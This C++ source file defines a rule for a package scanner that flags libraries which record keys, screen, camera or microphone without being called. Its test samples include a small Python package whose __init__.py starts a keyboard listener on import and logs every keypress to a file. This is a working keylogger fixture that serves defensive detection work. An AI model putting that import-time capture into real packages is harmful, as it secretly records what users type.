#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

bool reports(const Action& action) {
  return is_network(action.act) && destination_of(action.target).kind != HostKind::local;
}

void check(const Facts& facts, Findings& findings) {
  const Beside reporters(facts, reports);
  for (const Action& action : facts.actions) {
    if (action.act != Act::capture || !runs_uncalled(action)) continue;
    const Action* report = reporters(action);
    findings.add(report != nullptr ? Severity::critical : Severity::high, action.where,
                 sentence("records through " + shown(action.api), action) +
                     (report != nullptr ? ", and contacts " + shown_target(*report) : ""),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule records_input = {
    .id = "records-input",
    .title = "The package records keys, screen, camera or microphone uncalled",
    .why =
        "What is typed and shown is everything that its user does. A library for recording "
        "waits until it is called.",
    .harmless_when = "A recorder or hot-key program is started by its user, not imported.",
    .severity = Severity::high,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a module listens to the keyboard when imported",
     .expect = "widget/__init__.py:4",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
from pynput import keyboard
def on_press(key):
    open("keys.txt", "a").write(str(key))
listener = keyboard.Listener(on_press=on_press)
listener.start()
)"},
    {.name = "a library takes a picture when asked", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
from PIL import ImageGrab
def shot():
    return ImageGrab.grab()
)"},
};
extern const std::span<const Sample> records_input_samples = samples;
#endif

}  // namespace assay::rules
